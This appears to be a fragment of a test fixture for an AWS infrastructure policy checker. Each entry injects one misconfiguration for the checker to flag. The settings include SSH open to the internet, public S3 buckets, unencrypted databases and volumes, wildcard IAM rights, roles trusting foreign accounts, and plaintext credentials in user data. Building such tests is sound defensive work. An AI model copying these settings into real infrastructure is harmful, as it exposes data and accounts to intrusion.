  // Edges and networks.
  add("content-network", "a content network", aws("cloudfront/distribution:Distribution", "x", {})),
  add("edge-optimised-api", "an API at the edge", aws("apigateway/restApi:RestApi", "x", {})),
  add("query-log", "a log of queries", aws("route53/queryLog:QueryLog", "x", {})),
  add(
    "peering-abroad",
    "a peering",
    aws("ec2/vpcPeeringConnection:VpcPeeringConnection", "x", { peerRegion: "eu-west-1" }),
  ),
  set("peering-abroad", "ec2/vpcEndpoint:VpcEndpoint", "serviceRegion", "us-east-1"),
  set("open-egress", "ec2/securityGroup:SecurityGroup", "egress", [
    { protocol: "-1", fromPort: 0, toPort: 0, cidrBlocks: ["0.0.0.0/0"] },
  ]),
  set("open-egress", "ec2/securityGroup:SecurityGroup", "egress", [
    { protocol: "-1", fromPort: 0, toPort: 0, ipv6CidrBlocks: ["::/0"] },
  ]),
  set("open-ingress", "ec2/securityGroup:SecurityGroup", "ingress", [
    { protocol: "tcp", fromPort: 22, toPort: 22, cidrBlocks: ["0.0.0.0/0"] },
  ]),
  set("open-ingress", "ec2/securityGroup:SecurityGroup", "ingress", [
    { protocol: "tcp", fromPort: 0, toPort: 65535, cidrBlocks: ["0.0.0.0/0"] },
  ]),
  {
    policy: "strict-gateway",
    says: "a gateway in the strict profile",
    mutate: (resources) => {
      const changed = aws("ec2/natGateway:NatGateway", "out", {});
      return [{ resources: [...resources, changed], changed, country: { residency: { profile: "strict" } } }];
    },
  },
  // Flows.
  set(
    "arn-abroad",
    "sns/topicSubscription:TopicSubscription",
    "endpoint",
    "arn:aws:sqs:eu-west-1:123456789012:x",
  ),
  set(
    "arn-abroad",
    "lb/listener:Listener",
    "certificateArn",
    "arn:aws:acm:us-east-1:123456789012:certificate/1",
  ),
  set(
    "log-delivery",
    "ec2/flowLog:FlowLog",
    "logDestination",
    "arn:aws:logs:af-south-1:999999999999:log-group:x",
  ),
  set(
    "arn-abroad",
    "ec2/flowLog:FlowLog",
    "logDestination",
    "arn:aws:logs:eu-west-1:123456789012:log-group:x",
  ),
  add(
    "delivery-stream",
    "a stream to the web",
    aws("kinesis/firehoseDeliveryStream:FirehoseDeliveryStream", "x", {
      destination: "http_endpoint",
      httpEndpointConfiguration: { url: "https://c.example.com" },
    }),
  ),
  add(
    "event-target",
    "events to a webhook",
    aws("cloudwatch/eventApiDestination:EventApiDestination", "x", {
      invocationEndpoint: "https://h.example.com",
    }),
  ),
  add(
    "event-target",
    "readings to a webhook",
    aws("iot/topicRule:TopicRule", "x", { http: [{ url: "https://h.example.com" }] }),
  ),
  add(
    "topic-subscription",
    "alarms by mail",
    aws("sns/topicSubscription:TopicSubscription", "x", { protocol: "email", endpoint: "me@example.com" }),
  ),
  add(
    "topic-subscription",
    "alarms by text message",
    aws("sns/topicSubscription:TopicSubscription", "x", { protocol: "sms", endpoint: "+2712" }),
  ),
  add(
    "aggregation",
    "findings gathered elsewhere",
    aws("cfg/aggregateAuthorization:AggregateAuthorization", "x", { accountId: "999999999999" }),
  ),
  set("aggregation", "cloudtrail/trail:Trail", "isOrganizationTrail", true),
  add(
    "cross-region-inference",
    "a model over regions",
    aws("lambda/function:Function", "x", {
      environment: { variables: { MODEL: "eu.amazon.nova-pro-v1:0" } },
    }),
  ),
  add(
    "unregistered-host",
    "a function that calls out",
    aws("lambda/function:Function", "x", { environment: { variables: { TARGET: "https://x.example.com" } } }),
  ),
  add(
    "telemetry-service",
    "a function with a key",
    aws("lambda/function:Function", "x", { environment: { variables: { SENTRY_DSN: "s" } } }),
  ),
  // Safety.
  set("store-unencrypted", "rds/instance:Instance", "storageEncrypted", false),
  unset("store-unencrypted", "rds/instance:Instance", "storageEncrypted"),
  set("store-unencrypted", "ebs/volume:Volume", "encrypted", false),
  edit(
    "store-unencrypted",
    "nodes' disks",
    "aws:ec2/launchTemplate:LaunchTemplate",
    (draft) => delete draft.blockDeviceMappings[0].ebs.encrypted,
  ),
  set("key-abroad", "rds/instance:Instance", "kmsKeyId", far),
  set("key-abroad", "ebs/volume:Volume", "kmsKeyId", far),
  set("key-abroad", "cloudwatch/logGroup:LogGroup", "kmsKeyId", far),
  set("key-abroad", "secretsmanager/secret:Secret", "kmsKeyId", "arn:aws:kms:af-south-1:999999999999:key/1"),
  unset("key-rotation", "kms/key:Key", "enableKeyRotation"),
  set("key-rotation", "kms/key:Key", "deletionWindowInDays", 7),
  unset("cluster-secrets", "eks/cluster:Cluster", "encryptionConfig"),
  set("cluster-secrets", "eks/cluster:Cluster", "enabledClusterLogTypes", ["api"]),
  set("publicly-accessible", "rds/instance:Instance", "publiclyAccessible", true),
  set("publicly-accessible", "eks/cluster:Cluster", "vpcConfig", { endpointPublicAccess: true }),
  set("publicly-accessible", "eks/cluster:Cluster", "vpcConfig", {
    endpointPublicAccess: true,
    publicAccessCidrs: ["0.0.0.0/0"],
  }),
  set("backup-retention", "rds/instance:Instance", "backupRetentionPeriod", 0),
  set("backup-retention", "rds/instance:Instance", "backupRetentionPeriod", 7),
  edit(
    "backup-retention",
    "backups for ever",
    "aws:backup/plan:Plan",
    (draft) => delete draft.rules[0].lifecycle,
  ),
  set("data-deletable", "rds/instance:Instance", "deletionProtection", false),
  set("data-deletable", "rds/instance:Instance", "skipFinalSnapshot", true),
  set("data-deletable", "s3/bucket:Bucket", "forceDestroy", true),
  set("data-deletable", "ecr/repository:Repository", "forceDelete", true),
  unset("log-retention", "cloudwatch/logGroup:LogGroup", "retentionInDays"),
  set("log-retention", "cloudwatch/logGroup:LogGroup", "retentionInDays", 3653),
  unset("data-class-unstated", "s3/bucket:Bucket", "tags"),
  unset("data-class-unstated", "rds/instance:Instance", "tags"),
  unset("data-class-unstated", "ebs/volume:Volume", "tags"),
  set("bucket-public", "s3/bucket:Bucket", "acl", "public-read"),
  ...["blockPublicAcls", "blockPublicPolicy", "ignorePublicAcls", "restrictPublicBuckets"].map((setting) =>
    set("bucket-public", "s3/bucketPublicAccessBlock:BucketPublicAccessBlock", setting, false),
  ),
  remove(
    "bucket-public",
    "no block of public access",
    ({ name }) => name === "BucketPublicAccessBlock/backups",
  ),
  remove(
    "bucket-key",
    "no key of the stack",
    ({ name }) => name === "BucketServerSideEncryptionConfiguration/backups",
  ),
  remove("bucket-tls", "requests without TLS", ({ name }) => name === "BucketPolicy/backups"),
  set("foreign-principal", "s3/bucketPolicy:BucketPolicy", "policy", allow("*")),
  set("foreign-principal", "s3/bucketPolicy:BucketPolicy", "policy", allow({ AWS: stranger })),
  set("foreign-principal", "iam/role:Role", "assumeRolePolicy", allow({ AWS: stranger })),
  set("foreign-principal", "iam/role:Role", "assumeRolePolicy", allow({ AWS: ["999999999999"] })),
  set("foreign-principal", "kms/key:Key", "policy", allow({ AWS: stranger })),
  set("foreign-principal", "sqs/queue:Queue", "policy", allow("*")),
  add(
    "foreign-principal",
    "a snapshot shared",
    aws("ec2/snapshotCreateVolumePermission:SnapshotCreateVolumePermission", "x", {
      accountId: "999999999999",
    }),
  ),
  set("foreign-principal", "sns/topicSubscription:TopicSubscription", "endpoint", `${stranger}/queue`),
  ...[
    { Effect: "Allow", Action: "*", Resource: "*" },
    { Effect: "Allow", Action: "s3:PutObject", Resource: "arn:aws:s3:::copies-in-dublin/*" },
    { Effect: "Allow", Action: "sts:*", Resource: "arn:aws:iam::*:role/deploy" },
  ].map((statement) =>
    add(
      "identity-rights",
      `a role that may ${statement.Action}`,
      aws("iam/rolePolicy:RolePolicy", "x", { policy: JSON.stringify({ Statement: [statement] }) }),
    ),
  ),
  remove("audit-trail", "no trail", ({ type }) => type.endsWith(":Trail")),
  unset("audit-trail", "cloudtrail/trail:Trail", "enableLogFileValidation"),
  set("instance-metadata", "ec2/launchTemplate:LaunchTemplate", "metadataOptions", {}),
  set("route-without-tls", "lb/listener:Listener", "protocol", "HTTP"),
  set("route-without-tls", "lb/listener:Listener", "sslPolicy", "ELBSecurityPolicy-2016-08"),
  set("secret-in-plain", "rds/instance:Instance", "password", "correct-horse"),
  add(
    "secret-in-plain",
    "a key in a start script",
    aws("ec2/instance:Instance", "x", { userData: "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE" }),
  ),
  set("database-without-tls", "rds/parameterGroup:ParameterGroup", "parameters", [
    { name: "rds.force_ssl", value: "0" },
  ]),
  add(
    "database-durability",
    "a database that confirms what it has not written",
    aws("rds/parameterGroup:ParameterGroup", "x", {
      family: "postgres18",
      parameters: [{ name: "fsync", value: "off" }],
    }),
  ),
  add(
    "early-expiry",
    "backups that end after a day",
    aws("s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "x", {
      bucket: "backups",
      rules: [{ status: "Enabled", expiration: { days: 1 } }],
    }),
  ),
  add(
    "automatic-backup",
    "a table without backups",
    aws("dynamodb/table:Table", "x", { deletionProtectionEnabled: true }),
  ),
  add(
    "account-defaults",
    "buckets of the account may be public",
    aws("s3/accountPublicAccessBlock:AccountPublicAccessBlock", "x", { blockPublicAcls: false }),
  ),
  add("unmapped-type", "a service that no policy knows", aws("workspaces/workspace:Workspace", "x", {})),
];
